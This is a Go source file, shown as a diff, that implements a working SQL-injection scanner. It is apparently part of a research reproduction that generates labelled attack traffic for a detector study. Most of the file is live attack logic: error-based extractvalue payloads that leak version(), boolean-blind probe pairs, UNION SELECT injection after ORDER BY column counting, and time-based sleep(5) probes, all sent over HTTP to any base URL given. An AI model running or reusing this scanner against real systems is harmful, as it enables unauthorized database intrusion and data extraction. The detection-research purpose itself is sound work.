@@ -1,0 +1,315 @@
+// Package scanner is a working SQL-injection scanner in the style of the
+// tools the paper runs against its vulnerable application (SQLmap, Arachni,
+// Vega): it probes each page parameter over HTTP with error-, boolean-,
+// union- and time-based techniques, confirms vulnerabilities from the
+// responses, and logs every request it sent. That request log is the
+// behaviourally generated counterpart of the paper's test datasets
+// ("SQLmap ... triggering the scanning tool to generate over 7200 attack
+// samples") — produced by actually scanning, not sampled from templates.
+package scanner
+
+import (
+	"fmt"
+	"io"
+	"net/http"
+	"strconv"
+	"strings"
+
+	"psigene/internal/httpx"
+)
+
+// Technique is a confirmed injection technique.
+type Technique int
+
+// Detection techniques, in probe order.
+const (
+	TechniqueError Technique = iota + 1
+	TechniqueBoolean
+	TechniqueUnion
+	TechniqueTime
+)
+
+// String names the technique.
+func (t Technique) String() string {
+	switch t {
+	case TechniqueError:
+		return "error-based"
+	case TechniqueBoolean:
+		return "boolean-blind"
+	case TechniqueUnion:
+		return "union-based"
+	case TechniqueTime:
+		return "time-based"
+	default:
+		return fmt.Sprintf("Technique(%d)", int(t))
+	}
+}
+
+// Page is one scan target: a path and the parameter to inject into.
+type Page struct {
+	Path  string
+	Param string
+	// Benign is the parameter value that renders the page normally.
+	Benign string
+}
+
+// Finding is one confirmed vulnerability.
+type Finding struct {
+	Page      Page
+	Technique Technique
+	// Evidence is a short human-readable description of the signal.
+	Evidence string
+	// Columns is the UNION column count, when TechniqueUnion.
+	Columns int
+	// Extracted holds data exfiltrated as proof (version string etc.).
+	Extracted string
+}
+
+// Result is the outcome of a scan.
+type Result struct {
+	Findings []Finding
+	// Requests is every HTTP request the scanner sent, labeled malicious —
+	// the generated attack test set.
+	Requests []httpx.Request
+	// PagesScanned counts targets probed.
+	PagesScanned int
+}
+
+// Options configures a scan.
+type Options struct {
+	// Client is the HTTP client; nil means http.DefaultClient.
+	Client *http.Client
+	// MaxUnionColumns bounds ORDER BY column probing. 0 means 8.
+	MaxUnionColumns int
+	// Tool tags logged requests. "" means "scanner".
+	Tool string
+}
+
+func (o Options) withDefaults() Options {
+	if o.Client == nil {
+		o.Client = http.DefaultClient
+	}
+	if o.MaxUnionColumns <= 0 {
+		o.MaxUnionColumns = 8
+	}
+	if o.Tool == "" {
+		o.Tool = "scanner"
+	}
+	return o
+}
+
+// Scanner probes pages for SQL injection.
+type Scanner struct {
+	opts     Options
+	baseURL  string
+	log      []httpx.Request
+	trueBody string // boolean-channel calibration (see ExtractBoolean)
+}
+
+// New returns a scanner for the application at baseURL.
+func New(baseURL string, opts Options) *Scanner {
+	return &Scanner{opts: opts.withDefaults(), baseURL: strings.TrimRight(baseURL, "/")}
+}
+
+// response is one observed HTTP exchange.
+type response struct {
+	status int
+	body   string
+	delay  float64 // simulated seconds from the X-Query-Seconds header
+}
+
+// probe sends one injected value and records the request.
+func (s *Scanner) probe(p Page, value string) (response, error) {
+	query := p.Param + "=" + urlEncodeValue(value)
+	s.log = append(s.log, httpx.Request{
+		Method:    "GET",
+		Host:      hostOf(s.baseURL),
+		Path:      p.Path,
+		RawQuery:  query,
+		Malicious: true,
+		Tool:      s.opts.Tool,
+	})
+	resp, err := s.opts.Client.Get(s.baseURL + p.Path + "?" + query)
+	if err != nil {
+		return response{}, err
+	}
+	defer resp.Body.Close()
+	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
+	if err != nil {
+		return response{}, err
+	}
+	out := response{status: resp.StatusCode, body: string(body)}
+	if d := resp.Header.Get("X-Query-Seconds"); d != "" {
+		out.delay, _ = strconv.ParseFloat(d, 64)
+	}
+	return out, nil
+}
+
+// Scan probes every page with every technique.
+func (s *Scanner) Scan(pages []Page) (*Result, error) {
+	res := &Result{}
+	for _, p := range pages {
+		res.PagesScanned++
+		findings, err := s.scanPage(p)
+		if err != nil {
+			return nil, fmt.Errorf("scan %s: %w", p.Path, err)
+		}
+		res.Findings = append(res.Findings, findings...)
+	}
+	res.Requests = append([]httpx.Request(nil), s.log...)
+	return res, nil
+}
+
+func (s *Scanner) scanPage(p Page) ([]Finding, error) {
+	var out []Finding
+
+	// Technique 1: error-based. A lone quote breaking the statement while
+	// the doubled quote does not is the classic injectability signal.
+	quoteResp, err := s.probe(p, p.Benign+"'")
+	if err != nil {
+		return nil, err
+	}
+	cleanResp, err := s.probe(p, p.Benign+"''")
+	if err != nil {
+		return nil, err
+	}
+	sqlError := strings.Contains(quoteResp.body, "SQL syntax") || strings.Contains(quoteResp.body, "XPATH syntax")
+	if quoteResp.status == http.StatusInternalServerError && sqlError && cleanResp.status != quoteResp.status {
+		out = append(out, Finding{Page: p, Technique: TechniqueError, Evidence: "single quote raises a SQL error, doubled quote does not"})
+	}
+	// Error-based extraction attempt (works in both quoted and numeric
+	// contexts once wrapped appropriately).
+	for _, inj := range []string{
+		p.Benign + " and extractvalue(1, concat(0x7e, version()))",
+		p.Benign + "' and extractvalue(1, concat(0x7e, version()))-- ",
+	} {
+		r, err := s.probe(p, inj)
+		if err != nil {
+			return nil, err
+		}
+		if idx := strings.Index(r.body, "XPATH syntax error: '~"); idx >= 0 {
+			leak := r.body[idx+len("XPATH syntax error: '~"):]
+			if end := strings.IndexByte(leak, '\''); end > 0 {
+				leak = leak[:end]
+			}
+			out = append(out, Finding{Page: p, Technique: TechniqueError, Evidence: "extractvalue error leaks data", Extracted: leak})
+			break
+		}
+	}
+
+	// Technique 2: boolean-blind, numeric and quoted contexts.
+	pairs := [][2]string{
+		{p.Benign + " and 7491=7491", p.Benign + " and 7491=7492"},
+		{p.Benign + "' and '7491'='7491", p.Benign + "' and '7491'='7492"},
+	}
+	for _, pair := range pairs {
+		trueResp, err := s.probe(p, pair[0])
+		if err != nil {
+			return nil, err
+		}
+		falseResp, err := s.probe(p, pair[1])
+		if err != nil {
+			return nil, err
+		}
+		if trueResp.status == http.StatusOK && trueResp.body != falseResp.body {
+			out = append(out, Finding{Page: p, Technique: TechniqueBoolean, Evidence: "TRUE and FALSE probes render differently"})
+			break
+		}
+	}
+
+	// Technique 3: union-based. Find the column count with ORDER BY, then
+	// inject a UNION row carrying a marker.
+	baseline, err := s.probe(p, p.Benign)
+	if err != nil {
+		return nil, err
+	}
+	cols := 0
+	for k := 1; k <= s.opts.MaxUnionColumns; k++ {
+		r, err := s.probe(p, fmt.Sprintf("%s order by %d-- ", p.Benign, k))
+		if err != nil {
+			return nil, err
+		}
+		if r.status != baseline.status {
+			cols = k - 1
+			break
+		}
+	}
+	if cols > 0 {
+		marker := "qx7b1zq"
+		for _, prefix := range []string{"-1", p.Benign + "'"} {
+			parts := make([]string, cols)
+			for i := range parts {
+				parts[i] = "null"
+			}
+			parts[0] = "concat(0x" + hexOf(marker) + ", 0x3a, version())"
+			inj := fmt.Sprintf("%s union select %s-- ", prefix, strings.Join(parts, ","))
+			r, err := s.probe(p, inj)
+			if err != nil {
+				return nil, err
+			}
+			if idx := strings.Index(r.body, marker+":"); idx >= 0 {
+				leak := r.body[idx+len(marker)+1:]
+				if end := strings.IndexByte(leak, '<'); end > 0 {
+					leak = leak[:end]
+				}
+				out = append(out, Finding{Page: p, Technique: TechniqueUnion, Evidence: "UNION row rendered in page", Columns: cols, Extracted: leak})
+				break
+			}
+		}
+	}
+
+	// Technique 4: time-based.
+	for _, inj := range []string{
+		p.Benign + " and sleep(5)",
+		p.Benign + "' and sleep(5)-- ",
+	} {
+		r, err := s.probe(p, inj)
+		if err != nil {
+			return nil, err
+		}
+		if r.delay >= 4 {
+			out = append(out, Finding{Page: p, Technique: TechniqueTime, Evidence: fmt.Sprintf("query delayed %.1fs", r.delay)})
+			break
+		}
+	}
+	return out, nil
+}
+
+func hostOf(baseURL string) string {
+	h := strings.TrimPrefix(strings.TrimPrefix(baseURL, "http://"), "https://")
+	if i := strings.IndexByte(h, '/'); i >= 0 {
+		h = h[:i]
+	}
+	return h
+}
+
+func hexOf(s string) string {
+	const digits = "0123456789abcdef"
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		b.WriteByte(digits[s[i]>>4])
+		b.WriteByte(digits[s[i]&0xf])
+	}
+	return b.String()
+}
+
+// urlEncodeValue form-encodes an injected parameter value.
+func urlEncodeValue(s string) string {
+	const hexDigits = "0123456789ABCDEF"
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		c := s[i]
+		switch {
+		case c == ' ':
+			b.WriteByte('+')
+		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9',
+			c == '-' || c == '_' || c == '.' || c == '~' || c == '(' || c == ')' || c == ',':
+			b.WriteByte(c)
+		default:
+			b.WriteByte('%')
+			b.WriteByte(hexDigits[c>>4])
+			b.WriteByte(hexDigits[c&0xf])
+		}
+	}
+	return b.String()
+}
